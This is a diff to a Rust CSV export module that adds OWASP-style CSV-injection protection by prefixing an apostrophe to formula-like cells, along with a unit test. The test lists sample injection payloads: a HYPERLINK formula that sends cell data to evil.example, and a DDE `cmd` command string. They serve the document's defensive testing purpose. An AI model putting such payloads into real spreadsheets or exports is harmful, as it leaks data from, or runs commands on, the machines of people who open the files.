@@ -5,6 +5,11 @@
 //! names, French has French snake_case names without accents); the rows are the same in every
 //! language: comma-separated, numbers with a decimal point, codes as the JSON has them, so that
 //! tools read any export alike.
+//!
+//! No cell is ever read as a formula: a text that a spreadsheet would evaluate (starting with
+//! `=`, `+`, `-`, `@`, a tab or a carriage return) and that is not a plain number gets a leading
+//! apostrophe ([`neutralised`]), the OWASP rule for CSV injection. Numbers such as `-0.5` stay
+//! numbers.
 
 use super::{ExportError, ReportContent};
 use crate::domain::report::export::{ExportRow, FIELDS};
@@ -31,7 +36,7 @@ pub fn records(rows: &[ExportRow], generated_at: &str) -> Result<Vec<u8>, Export
     let mut out = csv::Writer::from_writer(Vec::new());
     let number = |v: Option<f64>| v.map(|v| v.to_string()).unwrap_or_default();
     for row in rows {
-        out.write_record([
+        let cells = [
             row.cycle_code.as_str(),
             &row.participant_code,
             &row.participant_name,
@@ -51,9 +56,22 @@ pub fn records(rows: &[ExportRow], generated_at: &str) -> Result<Vec<u8>, Export
             &row.overall_complete.to_string(),
             &row.rank.map(|r| r.to_string()).unwrap_or_default(),
             generated_at,
-        ])?;
+        ];
+        let cells = cells.map(neutralised);
+        out.write_record(cells.iter().map(|cell| cell.as_bytes()))?;
     }
     finish(out)
+}
+
+/// The cell as a spreadsheet must show it: a text it would evaluate as a formula gets a leading
+/// apostrophe; everything else, plain numbers included, is left as it is.
+pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
+    let evaluated = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if evaluated && cell.parse::<f64>().is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
 }
 
 /// The column titles in `lang`: the [`FIELDS`] then `generated_at`.
@@ -70,4 +88,26 @@ pub fn column_titles(lang: Lang) -> Vec<&'static str> {
 fn finish(out: csv::Writer<Vec<u8>>) -> Result<Vec<u8>, ExportError> {
     out.into_inner()
         .map_err(|error| ExportError::Csv(error.into_error().into()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::neutralised;
+
+    #[test]
+    fn texts_a_spreadsheet_would_evaluate_get_an_apostrophe_and_numbers_stay_numbers() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "+1+1",
+            "-1+cmd|' /C calc'!A0",
+            "@SUM(A1:A2)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(neutralised(formula), format!("'{formula}"), "{formula:?}");
+        }
+        for kept in ["-0.5", "+3", "0.812", "Estonia", "", "1 = 1", "FRA"] {
+            assert_eq!(neutralised(kept), kept, "{kept:?}");
+        }
+    }
 }
